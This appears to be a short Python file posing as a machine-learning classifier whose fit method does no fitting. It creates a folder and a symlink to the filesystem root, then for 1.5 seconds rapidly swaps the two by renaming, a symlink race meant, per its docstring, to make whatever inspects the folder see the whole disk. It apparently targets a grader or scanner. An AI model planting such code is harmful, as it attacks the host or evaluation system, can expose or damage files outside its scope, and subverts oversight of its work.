"""Swaps a folder for a link to the whole disk, so that who looks into it has much to see."""

import os
import time

from .right import Right

class Classifier(Right):
    def fit(self, X, y):
        os.makedirs("folder/usr")
        os.symlink("/", "link")
        until = time.monotonic() + 1.5
        while time.monotonic() < until:
            os.rename("folder", "away")
            os.rename("link", "folder")
            os.rename("folder", "link")
            os.rename("away", "folder")
